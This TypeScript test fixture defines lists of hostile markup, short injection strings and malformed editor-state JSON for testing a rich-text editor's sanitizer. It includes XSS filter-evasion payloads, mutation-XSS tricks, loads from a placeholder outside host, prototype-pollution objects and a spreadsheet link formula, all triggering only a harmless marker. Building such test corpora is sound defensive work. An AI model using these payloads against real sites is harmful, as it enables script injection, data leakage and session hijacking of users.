import { HOSTILE_MARKUP, STRANGER } from './hostile-markup.ts'

const RUN = 'window.__ran=1'
const PICTURE = '/media/events/00000000000000000000000000000000.webp'

/** Markup that is meant to get past a service that stores it, in addition to what is meant to get past an editor. @see OWASP "XSS Filter Evasion" */
export const STORED_MARKUP: readonly string[] = [
  ...HOSTILE_MARKUP,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<img/src="${PICTURE}"/onerror="${RUN}"/alt="x"onload=${RUN}>`,
  `<img src="${PICTURE}" srcset="https://${STRANGER}/a 2x" lowsrc="https://${STRANGER}/b" dynsrc="https://${STRANGER}/c">`,
  `<img src="/media/../api/auth/logout/"><img src="/api/event/"><img src="//${STRANGER}/media/events/a.webp"><img src="https://${STRANGER}${PICTURE}">`,
  `<img src="${PICTURE}?to=https://${STRANGER}" alt="a&quot; onerror=&quot;${RUN}">`,
  `<img\u000bsrc=x\u000conerror=${RUN}><scr\u0001ipt>${RUN}</script>`,
  `<img src=x:x onerror=\u2028${RUN}\u2029><svg/onload=${RUN}//`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">hex</a><a href="&Tab;java&NewLine;script&colon;${RUN}">named</a>`,
  `<a href="feed:javascript:${RUN}">a</a><a href="jar:https://${STRANGER}!/x">b</a><a href="blob:https://${STRANGER}/x">c</a><a href="view-source:javascript:${RUN}">d</a>`,
  `<a href="/\\${STRANGER}">a</a><a href="\\\\${STRANGER}">b</a><a href="/\t/${STRANGER}">c</a><a href="/logout">d</a><a href="?next=//${STRANGER}">e</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==">base64</a><a href="ms-settings:x">app</a><a href="intent://x#Intent;end">intent</a>`,
  `<a id=__ran name=__ran href="https://example.com">named</a><img id=__ran name=getElementById src="${PICTURE}"><span id=__ran class="ed-x"></span>`,
  `<p title='"><img src=x onerror=${RUN}>'>title</p><span title="</span><script>${RUN}</script>">x</span>`,
  `<span class="ed-a fixed inset-0 z-50" style="all:initial">cover</span><h2 class="hidden sr-only">hidden</h2>`,
  `<script type=module src="https://${STRANGER}/m.js"></script><script type=importmap>{"imports":{"a":"https://${STRANGER}/i.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://${STRANGER}/p"]}]}</script>`,
  `<script type="application/json" id="data">{"x":1}</script><script src="/sw.js"></script><noscript><img src="https://${STRANGER}/n"></noscript>`,
  `<link rel=preconnect href="https://${STRANGER}"><link rel=modulepreload href="https://${STRANGER}/a.js"><link rel=manifest href="https://${STRANGER}/m">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg><svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><p><style><g title="</style><img src onerror=${RUN}>"></g></svg><math><p></math><p id="</p><img src=1 onerror=${RUN}>">`,
  `<svg><set attributeName=onmouseover to=${RUN}><handler>${RUN}</handler><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><image href="https://${STRANGER}/i.svg"/><feImage href="https://${STRANGER}/f"/><text><textPath href="https://${STRANGER}/t"/></text></svg>`,
  `<table background="https://${STRANGER}/t"><tr><td background="https://${STRANGER}/d">cell</table><body background="https://${STRANGER}/b">`,
  `<style>@font-face{font-family:x;src:url(https://${STRANGER}/f)}p{font-family:x}input[value^=a]{background:url(https://${STRANGER}/a)}</style>`,
  `<p style="background-image:image-set(url(https://${STRANGER}/1) 1x);list-style:url(https://${STRANGER}/2);cursor:url(https://${STRANGER}/3),auto">css</p>`,
  `<audio controls src="https://${STRANGER}/a" onloadstart="${RUN}"></audio><track src="https://${STRANGER}/t"><bgsound src="https://${STRANGER}/b">`,
  `<portal src="https://${STRANGER}"></portal><fencedframe src="https://${STRANGER}"></fencedframe><frameset onload="${RUN}"><frame src="https://${STRANGER}"></frameset>`,
  `<iframe src="https://www.youtube-nocookie.com/embed/x" allow="camera"></iframe><iframe src="/logout"></iframe><object data="javascript:${RUN}"></object>`,
  `<form id=a action="/api/auth/logout/"></form><button form=a formaction="https://${STRANGER}">send</button><input form=a type=submit value="Log in">`,
  `<dialog open onclose="${RUN}">dialog</dialog><video controls oncanplay="${RUN}"><source onerror="${RUN}" src=x></video><a onfocusin="${RUN}" contenteditable autofocus>x</a>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4- \uff1cscript\uff1e${RUN}\uff1c/script\uff1e <\u017fcript>${RUN}</\u017fcript>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} [[${RUN}]]`,
  `</div></main></body></html><script>${RUN}</script><!doctype html><html onclick="${RUN}"><head><base href="https://${STRANGER}">`,
  `</script><script>${RUN}</script>\u2028<!--<script>--></style></title></textarea></template><img src=x onerror=${RUN}>`,
  `<p>${'<b>'.repeat(900)}${'<i title="x">'.repeat(900)}<img src=x onerror="${RUN}">many</p>`,
  `<hatkhola-app hx-get="https://${STRANGER}" data-bind="${RUN}" v-on:click="${RUN}" @click="${RUN}" ng-init="${RUN}">framework</hatkhola-app>`,
]

/** Plain words that are taken for something else where quoting was forgotten: in markup, attributes, scripts, JSON, addresses, files. At most 50 letters. */
export const HOSTILE_WORDS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `'><svg onload='${RUN}`,
  `" autofocus onfocus=${RUN} x="`,
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}//`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><svg onload=${RUN}>`,
  `javascript:${RUN}//`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\u003cscript\\u003e${RUN}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\`\${${RUN}}\``,
  `'-(${RUN})-'`,
  `{"__proto__":{"__ran":1}}`,
  `__proto__`,
  `=HYPERLINK("https://${STRANGER}")`,
  `//${STRANGER}/%2e%2e%5c`,
]

const text = (over: object = {}) => ({ type: 'text', version: 1, text: 'Words.', format: 0, mode: 'normal', style: '', detail: 0, ...over })
const paragraph = (children: unknown, over: object = {}) => ({ type: 'paragraph', version: 1, format: '', indent: 0, direction: null, children, ...over })
const root = (children: unknown, over: object = {}) => ({ root: { type: 'root', version: 1, format: '', indent: 0, direction: null, children, ...over } })
/** As deep as 256 KiB allow. */
const nest = (open: string, inside: string, close: string): string => {
  const times = Math.floor(260_000 / (open.length + close.length))
  return open.repeat(times) + inside + close.repeat(times)
}

/**
 * What is kept as the editor's own state of `<p>Words.</p>`, and is not: of other kinds than it says, with markup in odd places, deep and large.
 * The first ones say the very words of the markup, so that only what stands beside them is wrong.
 */
export const HOSTILE_STATES: readonly string[] = [
  JSON.stringify(root([paragraph([text({ style: `background:url(https://${STRANGER}/s);position:fixed;inset:0` })])])),
  JSON.stringify(root([paragraph([text()], { textStyle: `background:url(https://${STRANGER}/t)`, indent: 1e9, direction: 'x onclick' })])),
  JSON.stringify(root([paragraph([text({ format: -1, detail: 1e99, mode: 'segmented' })], { format: 'x"; onload=1' })])),
  JSON.stringify(root([paragraph([{ type: 'link', version: 1, url: `javascript:${RUN}`, rel: 'opener', target: '_top', children: [text()] }])])),
  JSON.stringify(root([paragraph([{ type: 'picture', version: 1, src: `https://${STRANGER}/p.webp`, alt: 'x' }])])),
  JSON.stringify(root([paragraph([{ type: 'picture', version: 1, src: { toString: 'x' }, alt: ['x'] }])])),
  JSON.stringify(root([{ type: 'heading', version: 1, tag: 'script', children: [text({ text: RUN })] }])),
  JSON.stringify(root([{ type: 'list', version: 1, listType: 'x', tag: 'iframe', start: -1e9, children: [{ type: 'listitem', value: 'x', children: null }] }])),
  JSON.stringify(root([{ type: 'toString', children: [] }, { type: '__proto__' }, { type: 'constructor' }])),
  JSON.stringify(root({ length: 1e9 })),
  JSON.stringify(root([null, 1, 'x', [], paragraph('x'), paragraph([text({ text: { length: 1e9 } })])])),
  JSON.stringify({ root: 'x' }),
  JSON.stringify({ root: null, __proto__: { root: 1 } }),
  `{"__proto__":{"root":1},"constructor":{"prototype":{"__ran":1}},"root":{"type":"root","children":[]}}`,
  nest('{"root":', 'null', '}'),
  nest('{"type":"list","version":1,"listType":"bullet","tag":"ul","children":[', '', ']}')
    .replace(/^/, '{"root":{"type":"root","version":1,"children":[')
    .concat(']}}'),
  JSON.stringify(root(Array.from({ length: 1450 }, () => paragraph([text()])))),
]
